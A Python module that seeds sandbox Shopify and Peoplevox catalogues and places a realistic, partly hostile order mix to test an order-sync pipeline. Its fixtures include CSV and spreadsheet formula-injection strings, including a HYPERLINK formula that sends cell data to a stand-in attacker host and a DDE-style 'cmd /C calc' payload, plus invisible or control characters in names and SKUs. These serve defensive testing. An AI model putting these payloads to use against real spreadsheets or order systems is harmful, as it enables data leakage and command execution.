"""Realistic traffic for the sandboxes: a clothing brand's catalogue and a hostile order mix.

Used by `make demo` (through `sync-pipeline traffic`) and by tests. No Dagster here: it talks
to the sandboxes' control APIs, and for captures and refunds to the Shopify sandbox's Admin API
as a merchant would (`traffic_money.py`). Everything is drawn from a caller-supplied
`random.Random`, so one seed gives the same catalogue, the same orders and the same follow-ups
(timing aside).

The catalogue honours the business rules: the SKUs that `bundles.yaml` and `sku_overrides.yaml`
name exist on the right side (bundle SKUs in Shopify only, their components on both sides;
override SKUs in Shopify, their item codes in Peoplevox), and a few SKUs are left out of
Peoplevox on purpose so that some orders are held as `unmapped_sku`.
"""

from __future__ import annotations

import argparse
import heapq
import itertools
import os
import random
import signal
import threading
import time
from collections import Counter
from dataclasses import dataclass, field, replace
from decimal import Decimal
from pathlib import Path
from typing import Literal

from sync_pipeline.lib.domain.config import load_business_rules
from sync_pipeline.lib.shopify import ShopifyClient, ShopifyError
from sync_pipeline.sandbox.peoplevox.control import PeoplevoxControl
from sync_pipeline.sandbox.shopify.control import (
    AddressSpec,
    CancelSpec,
    CompanySpec,
    ComponentSpec,
    EditSpec,
    LineSpec,
    ProductSpec,
    QuantityChange,
    SandboxControl,
    SandboxControlError,
    StockSpec,
    VariantSpec,
)
from sync_pipeline.sandbox.shopify.control import OrderSpec as ShopOrder
from sync_pipeline.sandbox.traffic_money import (
    NothingToDo,
    Warehouse,
    capture_all,
    refund_one_unit,
    return_one_unit,
)
from sync_pipeline.sandbox.warehouse_traffic import run_warehouse
from sync_pipeline.settings import REPO_ROOT, SyncSettings

SITES = ("PrimarySite", "Wholesale")
SIZES = ("XS", "S", "M", "L", "XL", "XXL")
COLOURS = {
    "BLK": "Black",
    "WHT": "White",
    "GRY": "Grey",
    "NVY": "Navy",
    "RED": "Red",
    "GRN": "Forest",
    "OLV": "Olive",
    "SND": "Sand",
    "BRG": "Burgundy",
    "NAT": "Natural",
}
# type code → (product name, sized?, price)
GARMENTS = {
    "TEE": ("Logo Tee", True, "20.00"),
    "HOODIE": ("Heavyweight Hoodie", True, "55.00"),
    "SWEAT": ("Crew Sweat", True, "45.00"),
    "JOGGER": ("Joggers", True, "40.00"),
    "SHORT": ("Shorts", True, "30.00"),
    "JACKET": ("Coach Jacket", True, "85.00"),
    "CAP": ("Six-panel Cap", False, "22.00"),
    "BEANIE": ("Beanie", False, "18.00"),
    "SOCK": ("Crew Socks", False, "8.00"),
    "TOTE": ("Canvas Tote", False, "15.00"),
}
GIFT_CARD_SKU = "GIFT-CARD-25"
DIGITAL_SKU = "DIGI-LOOKBOOK"
# Shopify-native bundles (variants with components): Shopify splits them into grouped lines.
NATIVE_BUNDLES = {
    "NATIVE-TEE-2PK": ("Tee two-pack", "36.00", (("TEE-WHT-M", 2),)),
    "NATIVE-HOODIE-CAP": ("Hoodie and cap set", "70.00", (("HOODIE-BLK-L", 1), ("CAP-NVY-OS", 1))),
}
UNMAPPED_COUNT = 4
# Shopify-only SKUs no Peoplevox lookup can carry: a trailing backslash (an escape to many
# clause parsers). Orders with them must be held as unmapped_sku, alone.
# U+0001 is a control character no XML request can carry: held as unmapped_sku, naming it.
HOSTILE_SKUS = ("TEE-LEGACY-M\\", "SOCK-LEGACY-OS\x01")


@dataclass(frozen=True)
class Catalogue:
    """What was seeded, by role; every list holds Shopify SKUs unless it says item codes."""

    skus: tuple[str, ...]  # plain shippable SKUs that map to a Peoplevox item type
    config_bundles: tuple[str, ...]  # bundles.yaml SKUs (Shopify only; exploded by the flow)
    native_bundles: tuple[str, ...]  # Shopify variants with components
    override_skus: tuple[str, ...]  # legacy Shopify SKUs mapped by sku_overrides.yaml
    unmapped_skus: tuple[str, ...]  # in Shopify, deliberately missing from Peoplevox
    gift_card_sku: str
    digital_sku: str
    item_codes: tuple[str, ...]  # Peoplevox item types seeded
    sites: tuple[str, ...] = SITES
    hostile_skus: tuple[str, ...] = HOSTILE_SKUS  # in Shopify only; see HOSTILE_SKUS

    @property
    def shopify_skus(self) -> frozenset[str]:
        return frozenset(
            (
                *self.skus,
                *self.config_bundles,
                *self.native_bundles,
                *self.override_skus,
                *self.unmapped_skus,
                *self.hostile_skus,
                self.gift_card_sku,
                self.digital_sku,
            )
        )


@dataclass(frozen=True)
class CataloguePlan:
    catalogue: Catalogue
    products: tuple[ProductSpec, ...]  # in seeding order: components before native bundles
    items: tuple[tuple[str, str, str], ...]  # Peoplevox (item_code, barcode, name)
    pvx_stock: tuple[tuple[str, str, int], ...]  # (item_code, site, on hand)


def _barcode(rng: random.Random) -> str:
    return "50" + "".join(str(rng.randrange(10)) for _ in range(11))


def plan_catalogue(size: int, rng: random.Random, rules_dir: Path | None = None) -> CataloguePlan:
    """Pure: the catalogue to seed, about `size` plain SKUs, consistent with the rules files."""
    rules = load_business_rules(rules_dir or REPO_ROOT / "data" / "config")
    bundles = rules.bundles.bundles
    overrides = rules.sku_overrides.overrides
    grid = [
        f"{code}-{colour}-{s}"
        for code, (_, sized, _) in GARMENTS.items()
        for colour in COLOURS
        for s in (SIZES if sized else ("OS",))
    ]
    needed = {c.sku for b in bundles.values() for c in b.components if c.sku not in bundles}
    needed |= set(overrides.values()) | {sku for _, _, parts in NATIVE_BUNDLES.values() for sku, _ in parts}
    missing = needed - set(grid)
    if missing:
        raise ValueError(f"rules name SKUs the catalogue cannot contain: {sorted(missing)}")
    rest = [s for s in grid if s not in needed]
    chosen = sorted(needed | set(rng.sample(rest, max(0, min(len(rest), size - len(needed))))))
    # Unmapped on purpose: never one the rules or a native bundle depend on.
    unmapped = sorted(rng.sample([s for s in chosen if s not in needed], UNMAPPED_COUNT))
    mapped = [s for s in chosen if s not in unmapped]
    overridden = tuple(sorted(overrides))  # legacy listings: Shopify only

    products: list[ProductSpec] = []
    # One product per garment and colour, sizes as variants; legacy listings apart, as in a
    # store that kept old products live after a SKU clean-up.
    by_product: dict[tuple[str, str, bool], list[str]] = {}
    for sku in [*chosen, *overridden]:
        code, colour, _ = overrides.get(sku, sku).split("-")
        by_product.setdefault((code, colour, sku in overrides), []).append(sku)
    for (code, colour, legacy), skus in by_product.items():
        name, _, price = GARMENTS[code]
        variants = [
            VariantSpec(sku=s, title=s.rsplit("-", 1)[-1], price=Decimal(price), barcode=_barcode(rng))
            for s in skus
        ]
        title = f"{name} - {COLOURS[colour]}" + (" (legacy listing)" if legacy else "")
        products.append(ProductSpec(title=title, variants=variants))
    for sku, spec in bundles.items():
        products.append(
            ProductSpec(title=spec.title or sku, variants=[VariantSpec(sku=sku, price=Decimal("40.00"))])
        )
    for sku, (title, price, parts) in NATIVE_BUNDLES.items():
        components = [ComponentSpec(sku=s, quantity=q) for s, q in parts]
        products.append(
            ProductSpec(
                title=title, variants=[VariantSpec(sku=sku, price=Decimal(price), components=components)]
            )
        )
    products.append(
        ProductSpec(
            title="Gift card",
            variants=[
                VariantSpec(
                    sku=GIFT_CARD_SKU, price=Decimal("25.00"), requires_shipping=False, is_gift_card=True
                )
            ],
        )
    )
    products.append(
        ProductSpec(
            title="Legacy tee (hostile SKU)",
            variants=[VariantSpec(sku=sku, price=Decimal("15.00")) for sku in HOSTILE_SKUS],
        )
    )
    products.append(
        ProductSpec(
            title="Digital lookbook",
            variants=[VariantSpec(sku=DIGITAL_SKU, price=Decimal("5.00"), requires_shipping=False)],
        )
    )
    items = tuple((s, _barcode(rng), s.replace("-", " ").title()) for s in mapped)
    stock = tuple(
        (s, site, rng.randint(150, 400) if site == SITES[0] else rng.randint(300, 900))
        for s in mapped
        for site in SITES
    )
    catalogue = Catalogue(
        skus=tuple(mapped),
        config_bundles=tuple(sorted(bundles)),
        native_bundles=tuple(NATIVE_BUNDLES),
        override_skus=overridden,
        unmapped_skus=tuple(unmapped),
        gift_card_sku=GIFT_CARD_SKU,
        digital_sku=DIGITAL_SKU,
        item_codes=tuple(mapped),
    )
    return CataloguePlan(catalogue, tuple(products), items, stock)


def seed_catalogue(
    shop: SandboxControl,
    pvx: PeoplevoxControl,
    size: int = 300,
    rng: random.Random | None = None,
    rules_dir: Path | None = None,
) -> Catalogue:
    """Create the planned catalogue in both sandboxes (each starts empty) and return it."""
    plan = plan_catalogue(size, rng or random.Random(0), rules_dir)
    for product in plan.products:
        shop.add_product(product)
    shippable = [v.sku for p in plan.products for v in p.variants if v.requires_shipping and not v.components]
    shop.set_stock([StockSpec(sku=s, available=1000) for s in shippable])
    for start in range(0, len(plan.items), 200):
        pvx.seed_items(list(plan.items[start : start + 200]))
    pvx.set_stock(list(plan.pvx_stock))
    return plan.catalogue


# -- the order mix -----------------------------------------------------------------------------

Action = Literal[
    "mark_paid", "add_line", "bump_quantity", "change_address", "cancel", "capture", "refund", "return"
]
# Follow-ups that need the merchant's Admin API or the warehouse (`run_traffic(..., merchant=…)`).
MONEY_ACTIONS = frozenset({"capture", "refund", "return"})


@dataclass(frozen=True)
class FollowUp:
    action: Action
    delay_seconds: float  # after the order was placed
    sku: str | None = None  # add_line
    address: AddressSpec | None = None  # change_address
    restock: str = "CANCEL"  # refund: Shopify's restock type
    reusable: bool = True  # return: graded back onto the shelf
    refunded: bool = True  # return: the customer gets their money back in Shopify too
    tries: int = 1  # a follow-up with nothing to act on yet is tried again (6 hold windows later)


@dataclass(frozen=True)
class OrderSpec:
    """One order to place, what kind it is, and what happens to it afterwards."""

    kind: str
    order: ShopOrder
    follow_ups: tuple[FollowUp, ...] = ()


# Relative frequency of each kind in the demo's mix; the hostile ones are over-represented so
# the UI shows every exception within minutes.
KINDS: dict[str, int] = {
    "single": 28,
    "multi_line": 14,
    "config_bundle": 6,
    "native_bundle": 5,
    "b2b": 8,
    "hostile_address": 6,
    "hostile_contact": 3,
    "hostile_sku": 2,
    "shopper_wholesale": 3,
    "unicode_address": 5,
    "unmapped_sku": 3,
    "zero_priced": 4,
    "non_shipping_mixed": 4,
    "non_shipping_only": 2,
    "bad_address": 2,
    "pending_then_paid": 5,
    "edit_in_hold": 3,
    "edit_after_hold": 3,
    "address_change_in_hold": 2,
    "cancel_in_hold": 2,
    "cancel_after_hold": 2,
    # Money and goods coming back, for finance (follow-ups need `merchant`/`warehouse`).
    "authorised_then_captured": 3,
    "partial_refund": 2,
    "returned": 3,
}

FIRST_NAMES = ("Amelia", "Oliver", "Zoë", "Mateo", "Siobhán", "Björn", "Aïcha", "Kenji", "Priya", "José")
LAST_NAMES = ("Smith", "O'Brien", "Müller", "Nowak", "García", "Ångström", "Okafor", "Dubois", "Nguyen")
PLAIN_ADDRESSES = (
    ("12 High Street", "London", "SW1A 1AA", "GB"),
    ("4 Castle Road", "Manchester", "M1 1AE", "GB"),
    ("77 Queen Street", "Glasgow", "G1 3DN", "GB"),
    ("9 Harbour Way", "Bristol", "BS1 5TR", "GB"),
    ("Unter den Linden 5", "Berlin", "10117", "DE"),
    ("21 Grafton Street", "Dublin", "", "IE"),
)
# Each breaks naive CSV or spreadsheet handling: separators, quotes, line breaks, formula starts.
HOSTILE_LINES = (
    'Flat 3, "The Old Mill", 12 Mill Lane',
    "Unit 5\nRiverside Industrial Estate",
    '=HYPERLINK("http://example.com","click")',
    "+44 Deliver to side door",
    "-1 Basement, rear entrance",
    "@SUM(A1:A9) House",
    "Rose Cottage; Lower Road, Hamlet",
    'C/O O\'Neill, "Back" Gate\r\nBy the bins',
    "Flat 9\uffff Mill Lane",  # U+FFFF: no XML can carry it; cleaned out, the order goes on
)
UNICODE_ADDRESSES = (
    ("Straße des 17. Juni 135", "Berlin", "10623", "DE"),
    ("ul. Piotrkowska 104", "Łódź", "90-001", "PL"),
    ("Rua Augusta 1500", "São Paulo", "01304-001", "BR"),
    ("1-1 Chiyoda 🏯", "東京都", "100-0001", "JP"),
    ("Kärntner Straße 21–23", "Wien", "1010", "AT"),
    ("Ελευθερίου Βενιζέλου 2", "Αθήνα", "106 71", "GR"),
)
COUNTRY_NAMES = {
    "GB": "United Kingdom",
    "DE": "Germany",
    "IE": "Ireland",
    "PL": "Poland",
    "BR": "Brazil",
    "JP": "Japan",
    "AT": "Austria",
    "GR": "Greece",
}
COMPANIES = ("Northwind Retail Ltd", "Bloom & Co, Wholesale", 'Harbour Supply "HSL"', "Ødegaard AS")
# Contact names a spreadsheet would run or a label would print backwards/invisibly: formulas,
# a right-to-left override (U+202E) and zero-width characters (U+200B, U+FEFF).
HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Track your parcel")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Ada \u202eecalevoL",
    "Zero\u200bWidth\ufeff Customer",
)


def _address(rng: random.Random, street: str, city: str, postcode: str, country: str) -> AddressSpec:
    first, last = rng.choice(FIRST_NAMES), rng.choice(LAST_NAMES)
    return AddressSpec(
        name=f"{first} {last}",
        first_name=first,
        last_name=last,
        address1=street,
        city=city,
        zip=postcode or None,
        country=COUNTRY_NAMES[country],
        country_code=country,
        phone=f"+44 7700 9{rng.randrange(10**5):05d}",
    )


def _line(rng: random.Random, sku: str, max_qty: int = 2) -> LineSpec:
    return LineSpec(sku=sku, quantity=rng.randint(1, max_qty))


def make_order(
    rng: random.Random, catalogue: Catalogue, kind: str, hold_window_seconds: float = 30.0
) -> OrderSpec:
    """One order of the named kind (see KINDS). Follow-up delays scale with the hold window."""
    if kind not in KINDS:
        raise ValueError(f"unknown order kind {kind!r}; expected one of {sorted(KINDS)}")
    hold = hold_window_seconds
    skus = catalogue.skus
    lines = [_line(rng, rng.choice(skus))]
    address = _address(rng, *rng.choice(PLAIN_ADDRESSES))
    extra: dict[str, object] = {}
    follow_ups: list[FollowUp] = []
    inside, after = rng.uniform(0.1, 0.6) * hold, rng.uniform(1.5, 4.0) * hold
    if kind == "multi_line":
        lines = [_line(rng, s, 3) for s in rng.sample(skus, rng.randint(2, 5))]
        if rng.random() < 0.3:  # an old listing sold under a legacy SKU (sku_overrides.yaml)
            lines.append(_line(rng, rng.choice(catalogue.override_skus)))
    elif kind == "config_bundle":
        lines.append(_line(rng, rng.choice(catalogue.config_bundles)))
    elif kind == "native_bundle":
        lines.append(_line(rng, rng.choice(catalogue.native_bundles)))
    elif kind == "b2b":
        lines = [LineSpec(sku=s, quantity=rng.randint(6, 48)) for s in rng.sample(skus, rng.randint(2, 6))]
        company = rng.choice(COMPANIES)
        address = address.model_copy(update={"company": company})
        extra = {"po_number": f"PO-{rng.randrange(10**6):06d}", "source_name": "b2b"}
        # Both merchant-controlled B2B signals: a tagged customer, or a Shopify B2B company.
        if rng.random() < 0.5:
            extra["customer_tags"] = ["B2B"]
        else:
            extra["company"] = CompanySpec(name=company, location=rng.choice(("Head office", "Depot")))
    elif kind == "shopper_wholesale":  # a DTC shopper sets the cart attribute: still DTC
        extra = {"custom_attributes": {"order_type": "wholesale"}}
    elif kind == "hostile_contact":
        address = address.model_copy(update={"name": rng.choice(HOSTILE_NAMES), "first_name": None})
    elif kind == "hostile_sku":
        lines.append(_line(rng, rng.choice(catalogue.hostile_skus)))
    elif kind == "hostile_address":
        address = address.model_copy(
            update={"address1": rng.choice(HOSTILE_LINES), "address2": rng.choice(HOSTILE_LINES)}
        )
        extra = {"note": rng.choice(HOSTILE_LINES)}
    elif kind == "unicode_address":
        address = _address(rng, *rng.choice(UNICODE_ADDRESSES))
    elif kind == "unmapped_sku":
        lines.append(_line(rng, rng.choice(catalogue.unmapped_skus)))
    elif kind == "zero_priced":  # a free gift with purchase: still picked
        lines.append(LineSpec(sku=rng.choice(skus), quantity=1, price=Decimal("0")))
    elif kind == "non_shipping_mixed":
        lines += [LineSpec(sku=catalogue.gift_card_sku), LineSpec(sku=catalogue.digital_sku)]
    elif kind == "non_shipping_only":
        lines = [LineSpec(sku=rng.choice((catalogue.gift_card_sku, catalogue.digital_sku)))]
    elif kind == "bad_address":  # no postcode in a country that has them: CX must fix it
        address = address.model_copy(update={"zip": None, "country": "United Kingdom", "country_code": "GB"})
    elif kind == "pending_then_paid":
        extra = {"financial_status": "PENDING"}
        follow_ups.append(FollowUp("mark_paid", rng.uniform(0.2, 2.0) * hold))
    elif kind in ("edit_in_hold", "edit_after_hold"):
        delay = inside if kind == "edit_in_hold" else after
        if rng.random() < 0.5:
            follow_ups.append(FollowUp("add_line", delay, sku=rng.choice(skus)))
        else:
            follow_ups.append(FollowUp("bump_quantity", delay))
    elif kind == "address_change_in_hold":
        follow_ups.append(
            FollowUp("change_address", inside, address=_address(rng, *rng.choice(PLAIN_ADDRESSES)))
        )
    elif kind in ("cancel_in_hold", "cancel_after_hold"):
        follow_ups.append(FollowUp("cancel", inside if kind == "cancel_in_hold" else after))
    elif kind == "authorised_then_captured":  # released once captured (an authorisation is not paid)
        extra = {"financial_status": "AUTHORIZED"}
        follow_ups.append(FollowUp("capture", rng.uniform(0.2, 2.0) * hold))
    elif kind == "partial_refund":  # one unit refunded before it ships (the rest goes on)
        lines = [LineSpec(sku=rng.choice(skus), quantity=rng.randint(2, 3))]
        follow_ups.append(FollowUp("refund", inside, restock="CANCEL"))
    elif kind == "returned":  # one unit sent back well after despatch; refunded, mostly
        follow_ups.append(
            FollowUp("return", 12 * hold, reusable=rng.random() < 0.8, refunded=rng.random() < 0.75, tries=4)
        )
    first, last = address.first_name or "Sandbox", address.last_name or "Customer"
    order = ShopOrder(
        lines=lines,
        email=f"customer.{rng.randrange(10**6)}@example.com",
        customer_name=f"{first} {last}",
        shipping_address=address,
        tags=["demo", kind],
        **extra,  # type: ignore[arg-type]
    )
    return OrderSpec(kind, order, tuple(follow_ups))


def order_mix(
    rng: random.Random, catalogue: Catalogue, count: int, hold_window_seconds: float = 30.0
) -> list[OrderSpec]:
    """`count` orders drawn from KINDS by weight."""
    kinds = rng.choices(list(KINDS), weights=list(KINDS.values()), k=count)
    return [make_order(rng, catalogue, k, hold_window_seconds) for k in kinds]


# -- placing orders on a schedule ---------------------------------------------------------------


@dataclass
class TrafficReport:
    placed: Counter[str] = field(default_factory=Counter)
    follow_ups: Counter[str] = field(default_factory=Counter)
    errors: list[str] = field(default_factory=list)
    skipped: Counter[str] = field(default_factory=Counter)  # follow-ups with nothing to act on
    order_ids: list[str] = field(default_factory=list)


@dataclass(frozen=True)
class Hands:
    """Who acts on orders after they are placed: the sandbox admin, and (for money and returns)
    the merchant's Admin API client and the warehouse."""

    shop: SandboxControl
    merchant: ShopifyClient | None = None
    warehouse: Warehouse | None = None


def _apply_money(hands: Hands, order_id: str, follow_up: FollowUp) -> None:
    assert hands.merchant is not None and hands.warehouse is not None  # run_traffic schedules none without
    if follow_up.action == "capture":
        capture_all(hands.merchant, order_id)
    elif follow_up.action == "refund":
        refund_one_unit(hands.merchant, order_id, follow_up.restock)
    else:  # return: the warehouse books it first; the refund (if any) follows in Shopify
        reason = "Changed mind" if follow_up.reusable else "Damaged"
        code = return_one_unit(hands.warehouse, order_id, reason, reusable=follow_up.reusable)
        if follow_up.refunded:
            refund_one_unit(hands.merchant, order_id, "RETURN", sku=code)


def apply_follow_up(hands: Hands, order_id: str, snapshot: dict, follow_up: FollowUp) -> None:
    shop = hands.shop
    if follow_up.action in MONEY_ACTIONS:
        _apply_money(hands, order_id, follow_up)
    elif follow_up.action == "mark_paid":
        shop.mark_paid(order_id)
    elif follow_up.action == "cancel":
        shop.cancel_order(order_id, CancelSpec(reason="CUSTOMER"))
    elif follow_up.action == "add_line":
        shop.edit_order(order_id, EditSpec(add_lines=[LineSpec(sku=follow_up.sku or "", quantity=1)]))
    elif follow_up.action == "change_address":
        shop.edit_order(order_id, EditSpec(shipping_address=follow_up.address))
    else:  # bump_quantity: one more of the first line
        line = snapshot["line_items"][0]
        change = QuantityChange(line_item_id=line["id"], quantity=int(line["current_quantity"]) + 1)
        shop.edit_order(order_id, EditSpec(set_quantities=[change]))


def run_traffic(
    shop: SandboxControl,
    catalogue: Catalogue,
    orders_per_minute: float,
    duration_seconds: float,
    rng: random.Random,
    stop_event: threading.Event | None = None,
    *,
    hold_window_seconds: float = 30.0,
    max_orders: int | None = None,
    finish_follow_ups: bool = True,
    log: bool = False,
    merchant: ShopifyClient | None = None,
    warehouse: Warehouse | None = None,
) -> TrafficReport:
    """Place orders at a steady rate for `duration_seconds` (at most `max_orders`), doing each
    order's follow-ups when due. With `finish_follow_ups`, waits for the last ones (at most
    12 hold windows and the retries of a return) before returning. `stop_event` ends it early.
    Without `merchant` and `warehouse`, captures, refunds and returns are skipped (counted)."""
    stop = stop_event or threading.Event()
    hands = Hands(shop, merchant, warehouse)
    report = TrafficReport()
    interval = 60.0 / orders_per_minute
    limit = max_orders if max_orders is not None else int(duration_seconds / interval) + 1
    start = time.monotonic()
    end = start + duration_seconds
    due: list[tuple[float, int, str, dict, FollowUp]] = []  # (when, tiebreak, order id, snapshot, what)
    tiebreak = itertools.count()
    placed = 0
    while not stop.is_set():
        now = time.monotonic()
        placing = placed < limit and now < end
        if not placing and (not due or not finish_follow_ups):
            break
        next_order = start + placed * interval if placing else float("inf")
        if due and due[0][0] <= min(now, next_order):
            _, _, order_id, snapshot, follow_up = heapq.heappop(due)
            try:
                apply_follow_up(hands, order_id, snapshot, follow_up)
                report.follow_ups[follow_up.action] += 1
            except NothingToDo:  # e.g. a return before the warehouse despatched: try again later
                if follow_up.tries > 1:
                    later = replace(follow_up, tries=follow_up.tries - 1)
                    when = time.monotonic() + 6 * hold_window_seconds
                    heapq.heappush(due, (when, next(tiebreak), order_id, snapshot, later))
                else:
                    report.skipped[follow_up.action] += 1
            # Refused: e.g. editing an order cancelled meanwhile, refunding a return not yet fulfilled.
            except (SandboxControlError, ShopifyError) as error:
                report.errors.append(f"{follow_up.action} {order_id}: {error}")
            continue
        if placing and next_order <= now:
            spec = make_order(
                rng, catalogue, rng.choices(list(KINDS), weights=list(KINDS.values()))[0], hold_window_seconds
            )
            snapshot = shop.place_order(spec.order)
            placed += 1
            report.placed[spec.kind] += 1
            report.order_ids.append(str(snapshot["id"]))
            if log:
                print(f"[traffic] {snapshot['name']} {spec.kind}", flush=True)
            for follow_up in spec.follow_ups:
                if follow_up.action in MONEY_ACTIONS and (merchant is None or warehouse is None):
                    report.skipped[follow_up.action] += 1
                    continue
                when = time.monotonic() + follow_up.delay_seconds
                heapq.heappush(due, (when, next(tiebreak), str(snapshot["id"]), snapshot, follow_up))
            continue
        wake = min(next_order, due[0][0] if due else float("inf"), end if placing else float("inf"))
        stop.wait(max(0.0, min(wake - time.monotonic(), 1.0)))
    return report


# -- `sync-pipeline traffic` ----------------------------------------------------------------


def main(argv: list[str]) -> int:
    """Seed the sandboxes (unless told not to) and place orders until the duration is over."""
    parser = argparse.ArgumentParser(prog="sync-pipeline traffic", description=main.__doc__)
    parser.add_argument("--shopify-url", default=os.environ.get("SHOPIFY_SHOP_URL", "http://127.0.0.1:8701"))
    parser.add_argument(
        "--peoplevox-url", default=os.environ.get("PEOPLEVOX_BASE_URL", "http://127.0.0.1:8702")
    )
    parser.add_argument("--seed", type=int, default=7, help="same seed, same catalogue and orders")
    parser.add_argument("--catalogue-size", type=int, default=300)
    parser.add_argument("--no-seed-catalogue", action="store_true", help="the sandboxes are already seeded")
    parser.add_argument("--orders-per-minute", type=float, default=20.0)
    parser.add_argument("--duration", type=float, default=3600.0, help="seconds of order placing")
    parser.add_argument("--max-orders", type=int, default=None)
    parser.add_argument(
        "--goods-in-seconds", type=float, default=30.0,
        help="a warehouse delivery (goods-in) this often; 0: none",
    )  # fmt: skip
    args = parser.parse_args(argv)

    rules_dir = SyncSettings().rules_dir
    # Follow-ups are timed around the hold window the pipeline really uses.
    orders_rules = load_business_rules(rules_dir).orders
    hold = orders_rules.hold_window_seconds
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    # Captures and refunds as the merchant's staff make them: the Admin API, the sandbox's token.
    token = os.environ.get("SHOPIFY_ACCESS_TOKEN", "shpat_sandbox")
    with (
        SandboxControl(args.shopify_url) as shop,
        PeoplevoxControl(args.peoplevox_url) as pvx,
        ShopifyClient(args.shopify_url, token) as merchant,
    ):
        if args.no_seed_catalogue:
            catalogue = plan_catalogue(args.catalogue_size, random.Random(args.seed), rules_dir).catalogue
        else:
            catalogue = seed_catalogue(shop, pvx, args.catalogue_size, random.Random(args.seed), rules_dir)
            print(
                f"[traffic] seeded {len(catalogue.shopify_skus)} Shopify SKUs, "
                f"{len(catalogue.item_codes)} Peoplevox item types on {', '.join(catalogue.sites)}; "
                f"unmapped on purpose: {', '.join(catalogue.unmapped_skus)}",
                flush=True,
            )
        print(
            f"[traffic] {args.orders_per_minute:g} orders/minute for {args.duration:g}s (hold window {hold}s)",
            flush=True,
        )
        if args.goods_in_seconds > 0:
            deliveries = threading.Thread(
                target=run_warehouse,
                args=(pvx, catalogue.item_codes, args.goods_in_seconds, stop, random.Random(args.seed + 2)),
                name="warehouse-deliveries",
                daemon=True,
            )
            deliveries.start()
        try:
            report = run_traffic(
                shop,
                catalogue,
                args.orders_per_minute,
                args.duration,
                random.Random(args.seed + 1),
                stop,
                hold_window_seconds=hold,
                max_orders=args.max_orders,
                log=True,
                merchant=merchant,
                warehouse=Warehouse(pvx, orders_rules.sales_order_prefix),
            )
        except KeyboardInterrupt:
            return 0
        finally:
            stop.set()  # the deliveries stop before the control clients close
    print(
        f"[traffic] placed {sum(report.placed.values())}: {dict(report.placed)}; follow-ups {dict(report.follow_ups)}; "
        f"nothing to act on {dict(report.skipped)}"
    )
    for error in report.errors[:20]:
        print(f"[traffic] follow-up refused: {error}")
    return 0
